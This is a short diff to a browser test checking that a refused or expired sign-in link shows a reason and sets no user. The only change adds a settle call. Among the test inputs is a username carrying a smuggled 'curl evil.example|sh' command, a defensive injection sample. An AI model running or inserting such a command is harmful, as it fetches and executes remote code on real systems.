@@ -83,6 +83,7 @@ def test_a_refused_link_says_why_and_sets_no_user(remembered: Filled, sam: Tab) 
     dialog(sam)
     for user in ("mallory", "x;curl evil.example|sh"):
         paste(sam, "bad", user)
+        sam.settle()
         sam.page.get_by_text("The link was used before, or has expired.").wait_for()
         assert sam.evaluate("() => localStorage.getItem('memory-agent.user')") == "sam"
     paste(sam, ticket(remembered.data_dir), "x;curl evil.example|sh")
